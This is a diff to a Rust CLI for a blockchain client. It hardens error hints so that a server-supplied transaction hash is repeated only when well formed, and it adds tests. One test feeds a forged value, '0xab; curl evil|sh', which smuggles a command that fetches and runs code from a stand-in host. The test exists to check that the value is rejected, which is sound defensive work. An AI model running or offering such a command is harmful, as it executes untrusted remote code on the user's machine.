@@ -2,8 +2,10 @@
 //! error is one people commonly hit (no node at the address, no such key, an unfunded account,
 //! a call only the owner or governance may make…).
 //!
-//! Hints are chosen from the error's types (the client's, the keystore's, the RPC error code,
-//! the chain's `module::Error` names), never from the text a server sent.
+//! Hints are fixed texts chosen from the error's types (the client's, the keystore's, the RPC
+//! error code, the `module::Error` names of a receipt). A server can make us pick a wrong one
+//! of them, never put its own text in one: the only value a hint repeats (a transaction hash)
+//! is shown only when it is well formed.
 
 use logos_api::rpc::codes;
 use logos_client::{keystore::KeystoreError, ClientError};
@@ -40,20 +42,52 @@ fn client(error: &ClientError) -> Option<String> {
              --rpc, or point --rpc at a node of the genesis' network"
                 .into(),
         ),
-        ClientError::Timeout(hash) => Some(format!(
-            "it may still finalize: `logos tx status {hash}` tells; `logos query head` shows \
-             whether the network is finalizing"
-        )),
+        ClientError::Timeout(hash) => {
+            let hash = match is_hash(hash) {
+                true => hash.as_str(),
+                false => "HASH",
+            };
+            Some(format!(
+                "it may still finalize: `logos tx status {hash}` tells; `logos query head` \
+                 shows whether the network is finalizing"
+            ))
+        }
         _ => None,
     }
 }
 
+/// True for `0x` and 64 hex digits (a transaction hash as the node formats it).
+fn is_hash(text: &str) -> bool {
+    text.strip_prefix("0x")
+        .is_some_and(|hex| hex.len() == 64 && hex.bytes().all(|b| b.is_ascii_hexdigit()))
+}
+
+/// True if `error` or one of its causes is a failure to connect at all.
+fn unreachable(error: &(dyn std::error::Error + 'static)) -> bool {
+    use std::io::ErrorKind::*;
+    let mut cause = Some(error);
+    while let Some(error) = cause {
+        if let Some(io) = error.downcast_ref::<std::io::Error>() {
+            return matches!(
+                io.kind(),
+                ConnectionRefused | ConnectionReset | AddrNotAvailable | TimedOut | NotFound
+            );
+        }
+        cause = error.source();
+    }
+    false
+}
+
 fn rpc(error: &RpcError) -> Option<String> {
+    const NOBODY: &str = "no node answered at that address: start a local network with `logos \
+         devnet`, or give a node's address with --rpc URL (once for every command: `logos init \
+         --rpc URL`)";
     match error {
-        RpcError::Transport(_) | RpcError::RequestTimeout => Some(
-            "no node answered at that address: start a local network with `logos devnet`, or \
-             give a node's address with --rpc URL (once for every command: `logos init --rpc \
-             URL`)"
+        RpcError::Transport(inner) if unreachable(inner.as_ref()) => Some(NOBODY.into()),
+        RpcError::RequestTimeout => Some(NOBODY.into()),
+        RpcError::Transport(_) => Some(
+            "the server at that address did not answer as a Logos node's RPC: check --rpc URL \
+             (`logos init --rpc URL` sets it for every command)"
                 .into(),
         ),
         RpcError::Call(object) => rpc_code(object.code()),
@@ -168,6 +202,24 @@ mod tests {
         assert!(next_step(&error).unwrap().contains("logos devnet"));
         let wrapped = anyhow::Error::new(ClientError::Rpc(RpcError::RequestTimeout));
         assert!(next_step(&wrapped).unwrap().contains("--rpc"));
+        // A server that answers, but not as a node (a proxy's 403): not "start a devnet".
+        let answered = anyhow::Error::new(RpcError::Transport(anyhow::anyhow!("403").into()));
+        let hint = next_step(&answered).unwrap();
+        assert!(hint.contains("did not answer as a Logos node") && !hint.contains("devnet"));
+    }
+
+    #[test]
+    fn a_timed_out_transaction_repeats_its_hash_only_when_well_formed() {
+        let good = format!("0x{}", "ab".repeat(32));
+        let timeout = |hash: &str| anyhow::Error::new(ClientError::Timeout(hash.into()));
+        assert!(next_step(&timeout(&good)).unwrap().contains(&good));
+        for forged in ["0xab; curl evil|sh", "0x", &format!("0x{}", "g".repeat(64))] {
+            let hint = next_step(&timeout(forged)).unwrap();
+            assert!(
+                hint.contains("logos tx status HASH") && !hint.contains(forged),
+                "{hint}"
+            );
+        }
     }
 
     #[test]
